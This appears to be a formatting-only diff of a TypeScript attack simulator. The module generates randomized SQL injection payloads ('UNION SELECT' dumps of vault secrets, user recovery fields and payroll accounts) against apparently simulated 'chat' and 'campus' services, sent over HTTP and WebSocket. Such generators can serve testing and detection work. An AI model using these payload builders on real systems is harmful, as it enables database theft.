@@ -13,8 +13,24 @@ interface Target {
 }
 
 const TARGETS: Readonly<Record<Service, Target>> = {
-  chat: { service: 'chat', found: 'Welcome', shown: 'resident1', tables: [['vault', 'owner', 'secret'], ['users', 'login', 'recovery']] },
-  campus: { service: 'campus', found: 'Statistics', shown: 'professor.lin', tables: [['payroll', 'person', 'account'], ['users', 'login', 'recovery']] },
+  chat: {
+    service: 'chat',
+    found: 'Welcome',
+    shown: 'resident1',
+    tables: [
+      ['vault', 'owner', 'secret'],
+      ['users', 'login', 'recovery'],
+    ],
+  },
+  campus: {
+    service: 'campus',
+    found: 'Statistics',
+    shown: 'professor.lin',
+    tables: [
+      ['payroll', 'person', 'account'],
+      ['users', 'login', 'recovery'],
+    ],
+  },
 };
 
 type Ask = (value: string) => Promise<string>;
@@ -28,7 +44,11 @@ async function searcher(attacker: Attacker, { service }: Target): Promise<Ask> {
   const person = await attacker.member('chat');
   const isJson = attacker.random.chance(0.4);
   return async (value) =>
-    text(await (isJson ? attacker.postJson(person, '/api/search', { q: value }) : attacker.getRaw(person, '/api/search', 'q', value)));
+    text(
+      await (isJson
+        ? attacker.postJson(person, '/api/search', { q: value })
+        : attacker.getRaw(person, '/api/search', 'q', value)),
+    );
 }
 
 /** The quote that leaves the service's literal, then rewritten SQL. */
@@ -36,10 +56,17 @@ export function breakOut(found: string, sql: string, attacker: Pick<Attacker, 'r
   return `${found}%' ${mutatedSql(sql, attacker.random)}${ending(attacker.random)}`;
 }
 
-export function unionDump([table, one, other]: readonly [string, string, string], attacker: Pick<Attacker, 'random'>): string {
+export function unionDump(
+  [table, one, other]: readonly [string, string, string],
+  attacker: Pick<Attacker, 'random'>,
+): string {
   const { random } = attacker;
   const word = random.pick(['UNION SELECT', 'UNION ALL SELECT', 'UNION SELECT DISTINCT']);
-  const columns = random.pick([`1,${one},${other},4`, `9,${one},${one} || ':' || ${other},NULL`, `2,'${random.letters(3)}',${other},3`]);
+  const columns = random.pick([
+    `1,${one},${other},4`,
+    `9,${one},${one} || ':' || ${other},NULL`,
+    `2,'${random.letters(3)}',${other},3`,
+  ]);
   return breakOut(random.letters(6), `${word} ${columns} FROM ${nested(table, random)}`, attacker);
 }
 
@@ -88,7 +115,11 @@ const overWebSocket: Attack = {
   async run(attacker) {
     const person: Person = await attacker.member('chat');
     let ref = 1;
-    await staged(attacker, TARGETS.chat, async (q) => (await attacker.say(person, { type: 'search', ref: ref++, q }))?.raw ?? '');
+    await staged(
+      attacker,
+      TARGETS.chat,
+      async (q) => (await attacker.say(person, { type: 'search', ref: ref++, q }))?.raw ?? '',
+    );
   },
 };
 
